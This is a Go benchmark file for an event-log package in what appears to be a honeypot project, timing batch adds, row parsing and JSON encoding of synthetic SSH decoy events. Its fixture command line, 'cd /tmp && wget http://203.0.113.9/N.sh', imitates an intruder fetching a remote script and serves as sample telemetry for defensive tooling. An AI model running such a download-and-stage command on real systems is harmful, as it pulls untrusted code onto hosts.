package eventlog

import (
	"fmt"
	"net/netip"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/event"
)

// commandLine is an event's line as a decoy's command makes it.
func commandLine(ids *event.IDs, n int) []byte {
	e := event.Event{
		ID: ids.New(), Time: time.Now(), Ingested: time.Now().Truncate(time.Millisecond), Dataset: "decoy.ssh",
		Source: netip.MustParseAddrPort("198.51.100.7:51234"), Destination: netip.MustParseAddrPort("192.0.2.10:22"), Transport: "tcp", Protocol: "ssh",
		User: "root", Observer: "here", Host: "files", Decoy: "ssh", Persona: "debian-server", Connection: ids.New(), Session: ids.New(),
		Depth: event.DepthAct, CommandLine: fmt.Sprintf("cd /tmp && wget http://203.0.113.9/%d.sh", n), HasExit: true,
	}
	e.Describe(event.ActionCommandExecuted)
	e.Add("process.name", "wget")
	e.Add("process.working_directory", "/root")
	e.AddInt("process.pid", 4711)
	return e.AppendJSON(nil)
}

func BenchmarkBatchAdd(b *testing.B) {
	ids := event.NewIDs(nil, time.Now)
	var lines [1000][]byte
	for i := range lines {
		lines[i] = commandLine(ids, i)
	}
	var batch Batch
	n := 0
	b.SetBytes(int64(len(lines[0])))
	for b.Loop() {
		if n%len(lines) == 0 {
			batch.Reset()
		}
		if err := batch.Add(lines[n%len(lines)], "-"); err != nil {
			b.Fatal(err)
		}
		n++
	}
}

func BenchmarkRow(b *testing.B) {
	ids := event.NewIDs(nil, time.Now)
	var lines [1000][]byte
	for i := range lines {
		lines[i] = commandLine(ids, i)
	}
	var r Row
	n, size := 0, 0
	b.SetBytes(int64(len(lines[0])))
	for b.Loop() {
		if err := r.Parse(lines[n%len(lines)], ""); err != nil {
			b.Fatal(err)
		}
		r.Columns(nil, func(_ string, text []byte) { size += len(text) })
		n++
	}
}

func BenchmarkDecodeEncode(b *testing.B) {
	line := commandLine(event.NewIDs(nil, time.Now), 1)
	var out []byte
	for b.Loop() {
		e, err := event.Decode(line)
		if err != nil {
			b.Fatal(err)
		}
		out = e.AppendJSON(out[:0])
	}
}
